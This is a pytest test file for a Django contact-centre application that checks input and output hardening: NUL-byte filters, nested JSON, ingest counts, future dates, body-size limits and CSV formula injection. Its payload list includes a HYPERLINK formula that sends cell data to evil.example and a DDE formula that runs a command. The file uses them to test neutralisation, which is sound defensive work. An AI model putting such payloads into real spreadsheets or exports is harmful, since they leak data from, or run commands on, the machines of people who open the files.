"""Hardening of what comes in and goes out (issue 15, items 3, 4, 5, 10, 11): bad filter
values, deeply nested JSON, counts from what the database did, a far-future contact, an
oversized API body, formula injection in every CSV the product writes."""

import csv
import io
import threading
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.db import connection
from django.test import override_settings
from django.utils import timezone
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from interactions import imports, records, services
from interactions.models import ImportJob, Interaction
from tests.factories import InteractionFactory, QueueFactory, UserFactory
from tests.test_api import record

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)


def _pbx_client(username="pbx"):
    user = UserFactory(username=username)
    user.user_permissions.add(Permission.objects.get(codename="add_interaction"))
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


@pytest.fixture
def pbx():
    return _pbx_client()


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


# 4. A NUL byte in a page filter ------------------------------------------------------

NUL_PAGES = [
    ("/contacts/", "queue"),
    ("/contacts/", "agent"),
    ("/contacts/", "team"),
    ("/contacts/", "channel"),
    ("/dashboard/", "queue"),
    ("/dashboard/", "team"),
    ("/dashboard/", "channel"),
    ("/wallboard/", "queue"),
    ("/wallboard/", "team"),
    ("/leaderboard/", "queue"),
    ("/leaderboard/", "team"),
    ("/targets/", "team"),
    ("/kpis/occupancy/explain/", "team"),
    ("/kpis/occupancy/explain/", "agent"),
    ("/kpis/occupancy/explain/", "queue"),
]


@pytest.mark.parametrize(("url", "name"), NUL_PAGES)
def test_a_nul_byte_in_a_page_filter_answers_400_with_a_message(client, manager, url, name):
    client.force_login(manager)
    response = client.get(url, {name: "\x00"})
    assert response.status_code == 400
    assert "NUL" in response.content.decode()
    assert response["Content-Type"].startswith("text/plain")


def test_a_nul_byte_answers_400_on_team_and_agent_pages_and_for_agents(
    client, manager, team_a, agent_a
):
    client.force_login(manager)
    for url in (f"/teams/{team_a.pk}/", f"/agents/{agent_a.pk}/"):
        assert client.get(url, {"queue": "a\x00b"}).status_code == 400, url
    client.force_login(agent_a.user)
    assert client.get("/contacts/", {"queue": "\x00"}).status_code == 400


def test_clean_filters_still_work(client, manager):
    billing = InteractionFactory(external_id="in-billing", queue=QueueFactory(name="Billing"))
    InteractionFactory(external_id="in-sales", queue=QueueFactory(name="Sales"))
    client.force_login(manager)
    response = client.get("/contacts/", {"queue": "Billing", "team": ""})
    assert response.status_code == 200
    # The clean filter is applied, not merely accepted: only the Billing contact is listed.
    assert [row.pk for row in response.context["page"].object_list] == [billing.pk]
    assert client.get("/dashboard/", {"queue": "Billing"}).status_code == 200


# 5. Deeply nested JSON ----------------------------------------------------------------


@pytest.mark.parametrize("url", ["/api/v1/contacts/", "/api/v1/surveys/", "/api/v1/agent-events/"])
def test_deeply_nested_json_answers_400(pbx, url):
    body = "[" * 5000 + "]" * 5000
    response = pbx.generic("POST", url, body, content_type="application/json")
    assert response.status_code == 400
    assert "JSON" in response.json()["detail"]


def test_every_api_endpoint_parses_json_with_the_guarded_parser():
    from contactcenter.urls import api_v1
    from core.api import JSONParser

    checked = 0
    for pattern in api_v1:
        view = getattr(pattern.callback, "cls", None)
        if view is None or not hasattr(view, "parser_classes"):
            continue
        json_parsers = [p for p in view.parser_classes if "json" in p.media_type]
        assert json_parsers, view
        assert all(issubclass(p, JSONParser) for p in json_parsers), view
        checked += 1
    # The three ingest endpoints at least: a loop over nothing would prove nothing.
    assert checked >= 3


# 10. "created" counts what the database did --------------------------------------------


def test_a_key_repeated_in_one_batch_is_one_record_and_counted_once(pbx):
    batch = [record("b11"), record("b11", talk_seconds=222), record("b12")]
    response = pbx.post("/api/v1/contacts/", batch, format="json")
    body = response.json()
    assert Interaction.objects.count() == 2
    assert (body["created"], body["updated"], body["rejected"]) == (2, 0, 0)
    # The last record of a key wins, as docs/api.md says.
    assert Interaction.objects.get(external_id="b11").talk_seconds == 222
    statuses = [result["status"] for result in body["results"]]
    assert statuses == ["duplicate", "created", "created"]

    again = pbx.post("/api/v1/contacts/", batch, format="json").json()
    assert (again["created"], again["updated"]) == (0, 2)


def test_agent_events_repeated_in_one_batch_count_once(pbx, agent_a):
    event = {"agent": "A-1", "state": "available", "at": "2026-03-02T09:00:00+00:00"}
    body = pbx.post(
        "/api/v1/agent-events/", [event, {**event, "state": "on_contact"}], format="json"
    ).json()
    assert (body["created"], body["updated"]) == (1, 0)


def test_surveys_repeated_in_one_batch_count_once(pbx):
    InteractionFactory(source="pbx", external_id="s1")
    survey = {"external_id": "s1", "csat": 4}
    body = pbx.post("/api/v1/surveys/", [survey, {**survey, "csat": 5}], format="json").json()
    assert (body["created"], body["updated"]) == (1, 0)


@pytest.mark.django_db(transaction=True)
def test_concurrent_writers_report_as_many_created_as_rows_exist():
    if connection.vendor != "postgresql":
        pytest.skip("SQLite serialises writers; the race needs PostgreSQL.")
    QueueFactory(name="Billing")
    batches = [
        [record(f"r{n}") for n in range(0, 300)],
        [record(f"r{n}") for n in range(150, 450)],
        [record(f"r{n}") for n in range(300, 600)],
    ]
    reports, barrier = [], threading.Barrier(len(batches))

    def write(batch):
        try:
            barrier.wait()
            reports.append(services.ingest_contacts(batch, default_source="pbx"))
        finally:
            connection.close()

    threads = [threading.Thread(target=write, args=(batch,)) for batch in batches]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(reports) == 3
    assert sum(report.created for report in reports) == Interaction.objects.count() == 600
    assert sum(report.created + report.updated for report in reports) == 900


# 11. A far-future contact; an oversized API body -----------------------------------------


def test_a_contact_beyond_the_future_horizon_is_refused(pbx):
    future = (timezone.now() + timedelta(days=400)).replace(microsecond=0)
    response = pbx.post(
        "/api/v1/contacts/",
        record("f1", arrived_at=future.isoformat(), answered_at=None, ended_at=None),
        format="json",
    )
    assert response.status_code == 422
    assert "future" in str(response.json()["results"][0]["errors"]["arrived_at"])
    assert not Interaction.objects.filter(external_id="f1").exists()
    soon = (timezone.now() + timedelta(hours=2)).replace(microsecond=0)
    values, errors = records.parse_contact(
        record("f2", arrived_at=soon.isoformat(), answered_at=None, ended_at=None),
        default_source="pbx",
    )
    assert not errors


def test_the_future_horizon_holds_for_csv_and_queue_log(tmp_path):
    future = (timezone.now() + timedelta(days=400)).replace(microsecond=0).isoformat()
    path = tmp_path / "future.csv"
    path.write_text(f"external_id,channel,queue,arrived_at\nx1,voice,Billing,{future}\n")
    with open(path, "rb") as stream:
        summary = imports.import_contacts(stream, format_name="native", source="csv")
    assert summary.rejected == 1 and "future" in summary.rejected_lines[0][2]
    values, errors = records.parse_agent_event({"agent": "A-1", "state": "available", "at": future})
    assert "at" in errors


@override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=1000)
def test_a_body_over_the_upload_limit_answers_json_413_on_the_api(pbx):
    batch = [record(str(n)) for n in range(50)]
    response = pbx.post("/api/v1/contacts/", batch, format="json")
    assert response.status_code == 413
    assert response["Content-Type"].startswith("application/json")
    assert "limit" in response.json()["detail"]


# 3. Formula injection in every CSV the product writes ---------------------------------------


def test_the_contacts_export_neutralises_formulas(client, manager):
    for n, payload in enumerate(PAYLOADS):
        InteractionFactory(external_id=f"e{n}", customer=payload, queue=QueueFactory(name=payload))
    client.force_login(manager)
    rows = _rows(client.get("/contacts/", {"export": "contacts"}))
    cells = {cell for row in rows[1:] for cell in row}
    for payload in PAYLOADS:
        assert "'" + payload in cells
        assert payload not in cells


def _rejected_import(tmp_path):
    lines = ["external_id,channel,queue,arrived_at"]
    lines += [
        f'"{p.replace(chr(34), chr(34) * 2)}",fax,Billing,2026-03-02T09:00:00Z' for p in PAYLOADS
    ]
    path = tmp_path / "bad.csv"
    path.write_text("\n".join(lines) + "\n")
    return path


def test_the_rejected_lines_download_neutralises_formulas(client, manager, tmp_path):
    with open(_rejected_import(tmp_path), "rb") as stream:
        summary = imports.import_contacts(stream, format_name="native", source="csv")
    assert summary.rejected == len(PAYLOADS)
    job = ImportJob.objects.create(
        original_name="bad.csv",
        file="imports/bad.csv",
        rejected_lines=[list(row) for row in summary.rejected_lines],
    )
    client.force_login(manager)
    rows = _rows(client.get(f"/imports/{job.pk}/rejected.csv"))
    ids = [row[1] for row in rows[1:]]
    assert ids == ["'" + payload for payload in PAYLOADS]


def test_the_import_commands_rejected_file_neutralises_formulas(tmp_path):
    out = tmp_path / "rejected.csv"
    call_command(
        "import_contacts", str(_rejected_import(tmp_path)), "--rejected-csv", str(out),
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [row[1] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]


def test_no_csv_writer_outside_the_one_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for app in ("core", "agents", "interactions", "scheduling", "kpis", "demo", "contactcenter")
        for path in (root / app).rglob("*.py")
        if ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
        and path.relative_to(root).as_posix() != "core/exports.py"
    ]
    assert offenders == []
